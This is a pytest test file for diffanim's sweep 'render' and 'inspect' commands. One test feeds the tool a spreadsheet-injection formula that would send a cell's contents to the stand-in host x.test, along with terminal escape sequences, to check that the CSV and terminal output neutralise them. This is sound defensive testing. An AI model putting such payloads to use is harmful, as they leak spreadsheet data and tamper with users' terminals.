"""``diffanim render`` and ``diffanim inspect`` of sweeps."""

from __future__ import annotations

import csv
import re
import shlex
import shutil
from pathlib import Path

import pytest

from diffanim import Trajectory
from diffanim.scenes.differences import differences
from support.sweeps import grid, write_sweep
from support.terminal import OBEYED, Run, files

REFERENCE = ("--reference", "scheduler=ddim,steps=8")
FORMULA = '=HYPERLINK("http://x.test?"&A1,"a\x1b[2Jb")'


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two schedulers and three scales, of two seeds; and one cell more that failed."""
    folder = tmp_path_factory.mktemp("sweeps") / "my sweep"
    cells = [*grid(scheduler=("heun", "ddim"), guidance=(3.0, 1.0, 2.0), seed=(0, 1)), {"steps": 8, "guidance": 1.0}]
    write_sweep(
        folder,
        cells,
        colour=lambda cell: cell["guidance"] / 8 if cell["steps"] == 2 else 0.0,
        failed=lambda cell: "out\nof memory\x1b[2J" if (cell["guidance"], cell["seed"]) == (3.0, 1) else None,
    )
    return folder


@pytest.fixture
def swept(recorded: Path, run: Run, tmp_path: Path) -> Path:  # noqa: ARG001
    """A copy in the folder where commands run."""
    shutil.copytree(recorded, tmp_path / "s")
    return tmp_path / "s"


def test_cells_are_drawn_in_rows_and_columns(run: Run, swept: Path, tmp_path: Path) -> None:
    options = ("--rows", "guidance", "--columns", "scheduler", "--where", "seed=0,steps=2", "--size", 640)
    done = run("render", f"{swept}/", *options, "-q")
    assert done.code == 0, done.err
    gif, mp4 = done.out.split()
    assert (gif, mp4) == tuple(f"outputs/s-guidance-scheduler-seed-0-steps-2.{end}" for end in ("gif", "mp4"))
    said = run("inspect", gif).out.splitlines()
    assert [line.partition("  ")[2].strip() for line in said if re.match(r"run \d ", line)] == [
        f"{scheduler}, {guidance}"
        for guidance in ("guidance 1", "guidance 2", "guidance 3")
        for scheduler in ("Heun", "DDIM")
    ]
    command = said[-1].removeprefix("made by").strip()
    assert command == (
        "diffanim render s --rows guidance --columns scheduler --where seed=0 --where steps=2 --size 640 "
        f"-o {Path(gif).name}"
    )
    again = run(*shlex.split(command)[1:])
    assert again.code == 0, again.err
    assert (tmp_path / Path(gif).name).read_bytes() == Path(gif).read_bytes()


def test_several_formats_and_a_page(run: Run, swept: Path, tmp_path: Path) -> None:
    options = ("--columns", "guidance", "--where", "seed=0,steps=2,scheduler=heun", "-q")
    done = run("render", swept, *options, "-o", "a.html", "-o", "a-sheet.png")
    assert done.code == 0, done.err
    assert files(tmp_path) == ["a-sheet.png", "a.html", "s/index.jsonl"]
    page = (tmp_path / "a.html").read_text()
    assert page.index("guidance 1") < page.index("guidance 2") < page.index("guidance 3")


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["s"], 1, "differ in scheduler ('heun', 'ddim')"),
        (["s", "--rows", "scheduler", "--columns", "guidance"], 1, "choose one value, such as --where steps=2,seed=0"),
        (
            ["s", "--rows", "seed", "--columns", "guidance", "--where", "steps=2,scheduler=ddim"],
            1,
            "1 of these 6 cells",
        ),
        (["s", "--rows", "schedular"], 1, "a sweep takes no schedular; did you mean scheduler?"),
        (["s", "--where", "0"], 1, "says no setting and its value"),
        (["s", "--columns", "4", "--where", "steps=2"], 1, "differ in scheduler"),
        (["s", "--seed", "3", "--where", "steps=8"], 2, "--seed is for recording"),
        (["s", "t", "--rows", "scheduler"], 2, "--rows scheduler says which cells of a sweep are shown, and no single"),
        (["t", "--columns", "scheduler"], 2, "--columns scheduler says which cells of a sweep are shown"),
        (["--where", "seed=0"], 2, "--where seed=0 says which cells of a sweep are shown"),
        (["s", "--columns", "4 x"], 2, "'4 x' is neither a number nor a setting"),
        (["s", "--scene", "both", "--rows", "scheduler", "--where", "guidance=2,seed=0,steps=2"], 1, "both"),
    ],
)
def test_mistakes_are_a_line(run: Run, swept: Path, arguments: list[str], code: int, words: str) -> None:
    done = run("render", *arguments, "-o", "a.gif")
    assert (done.code, done.out) == (code, "")
    assert words in done.err.splitlines()[-1]
    assert not (swept.parent / "a.gif").exists()


def test_compare_has_no_rows_of_a_sweep(run: Run, swept: Path) -> None:  # noqa: ARG001
    assert "'scheduler' is not a valid integer" in run("compare", "--steps", "2,3", "--columns", "scheduler").err


def test_a_table_of_all_cells(run: Run, swept: Path) -> None:
    done = run("inspect", swept, *REFERENCE)
    assert (done.code, done.err) == (0, "")
    lines = done.out.splitlines()
    assert lines[:4] == [
        "sweep      13 cells: 11 done, 2 failed; 22 images",
        "all cells  model made up, batch 2",
        "off by     RMS distance of the finished images to those of the cell with scheduler ddim, steps 8 and the same "
        "other settings; black is −1 and white 1",
        "",
    ]
    assert lines[4] == "cell              scheduler  steps  seed  guidance  state   seconds  calls  off by"
    assert [line[18:] for line in lines[5:9]] == [
        "heun       2      0     3         done        1.2      2",
        r"heun       2      1     3         failed                          out\nof memory\x1b[2J",
        "heun       2      0     1         done        1.2      2  0.1250",
        "heun       2      1     1         done        1.2      2",
    ]
    assert [line.split()[-1] for line in (lines[13], lines[-1])] == ["0.1250", "0.0000"]
    assert {line[:16] for line in lines[5:]} == {path.name.removesuffix(".zarr") for path in swept.glob("*.zarr")} | {
        line[:16] for line in lines[5:] if "failed" in line
    }


def test_a_table_for_programs(run: Run, swept: Path) -> None:
    done = run("inspect", swept, *REFERENCE, "--csv")
    assert (done.code, done.err) == (0, "")
    rows = list(csv.DictReader(done.out.splitlines()))
    assert len(rows) == 13
    assert done.out.splitlines()[0] == (
        "cell,model,scheduler,steps,batch,seed,guidance,state,seconds,calls,together,threads,worker,distance,reason"
    )
    assert (rows[2]["guidance"], rows[2]["seconds"], rows[2]["distance"]) == ("1.0", "1.25", "0.125")
    assert (rows[1]["state"], rows[1]["seconds"], rows[1]["distance"]) == ("failed", "", "")


def test_damage_is_found(run: Run, swept: Path) -> None:
    lost = next(swept.glob("*.zarr"))
    shutil.rmtree(lost)
    done = run("inspect", "s")
    assert done.code == 1
    (line,) = [line for line in done.out.splitlines() if line.startswith(lost.stem)]
    assert "damaged" in line
    assert line.endswith("its recording is missing or not whole")
    assert done.err.count("\n") == 1
    assert "1 cell of s cannot be read as recorded" in done.err


def test_text_from_others_does_nothing(run: Run, tmp_path: Path) -> None:
    """An index may come from anyone: a terminal obeys nothing of it, and a spreadsheet calculates nothing."""
    formulas = (FORMULA, "+1", "-2", "@x", "  =1", "\t=1", "-", "plain, 'text'", "x" * 500, "猫が\u202e走る")
    write_sweep(tmp_path / "s", [{"prompt": text} for text in formulas])
    for options in ([], ["--csv"]):
        said = run("inspect", "s", *options).out
        assert not OBEYED.search(said)
    prompts = [row["prompt"] for row in csv.DictReader(said.splitlines())]
    assert [prompt for prompt in prompts if prompt.lstrip()[0] in "=+-@"] == []
    assert prompts[0] == "'" + FORMULA.replace("\x1b", r"\x1b")
    assert prompts[7] == formulas[7]
    assert max(map(len, run("inspect", "s").out.splitlines())) < 100


@pytest.mark.parametrize("words", [["--csv"], ["--reference", "seed=0"]])
def test_recordings_have_no_table(run: Run, swept: Path, words: list[str]) -> None:
    one = next(swept.glob("*.zarr"))
    done = run("inspect", one, *words)
    assert done.code == 2
    assert "--reference and --csv are for sweeps" in done.err
    assert run("inspect", one).code == 0
    assert "takes no sed; did you mean seed" in run("inspect", swept, "--reference", "sed=0").err


def test_pandas_reads_the_index(swept: Path) -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_json(swept / "index.jsonl", lines=True)
    assert frame.groupby("state").size().to_dict() == {"done": 11, "failed": 2}
    assert sorted(frame.scheduler.unique()) == ["ddim", "heun"]


def test_what_sets_the_cells_apart(swept: Path) -> None:
    """The recordings that tests make up differ as real ones do."""
    runs = [Trajectory.open(path) for path in sorted(swept.glob("*.zarr"))]
    assert {fact.name for fact in differences(runs).apart[0]} == {"scheduler", "steps", "guidance", "seed"}
